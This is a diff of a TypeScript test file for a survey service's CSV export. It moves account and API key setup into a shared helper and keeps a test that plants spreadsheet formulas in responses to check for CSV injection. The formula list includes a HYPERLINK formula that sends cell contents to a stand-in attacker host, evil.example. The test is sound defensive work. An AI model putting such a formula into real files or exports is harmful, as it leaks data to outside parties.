@@ -1,8 +1,7 @@
 import { randomBytes } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
 import { newId, toPublicId } from '../../../platform/ids';
-import { FormClient, newEmail } from '../../helpers/console';
-import { seedExportSurvey } from '../../helpers/export-fixture';
+import { consoleTeamWithExportSurvey } from '../../helpers/console';
 import { bearer } from '../../helpers/http';
 import { useTestService } from '../../helpers/service';
 
@@ -20,19 +19,8 @@ const FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', '+1+1', '-
 
 /** The fixture survey `n` of a team, signed up in the console, with formulas in its explanations, a prompt and a label. */
 async function poisonedSurvey(n: number) {
-  const c = new FormClient(service().url);
-  const email = newEmail('csvinj');
-  expect((await c.submit('/console/sign-up', '/console/sign-up', { name: 'Ivy Inject', email, teamName: 'Inject Co', password: 'correct horse battery' })).res.status).toBe(303);
-  const created = await c.submit('/console/keys', '/console/keys', { name: 'reader', mode: 'live', scopes: ['read'] });
-  const key = /id="secret"[^>]*value="([^"]+)"/.exec(created.html)![1];
   const em = service().em();
-  const [{ id: teamId }] = await em.execute<{ id: string }[]>(
-    'select t.id from accounts.teams t join accounts.team_memberships m on m.team_id = t.id join accounts.users u on u.id = m.user_id where u.email = ?',
-    [email],
-  );
-  const { surveyId } = await seedExportSurvey(em, teamId, n);
-  // The console reads the survey as the API would, which holds sample sizes to 10 and up (the fixture has 3).
-  await em.execute('update surveys.surveys set sample_size = 10 where id = ?', [surveyId]);
+  const { c, key, surveyId } = await consoleTeamWithExportSurvey(service().url, em, n, { tag: 'csvinj', name: 'Ivy Inject', teamName: 'Inject Co' });
   // Respondent 0's five explanations and respondent 1's first become formulas (collection order).
   const ids = await em.execute<{ id: string }[]>(`select id from surveys.responses where survey_id = ? and rejected_at is null order by id limit ?`, [surveyId, FORMULAS.length]);
   for (const [i, { id }] of ids.entries()) await em.execute('update surveys.responses set explanation = ? where id = ?', [FORMULAS[i], id]);
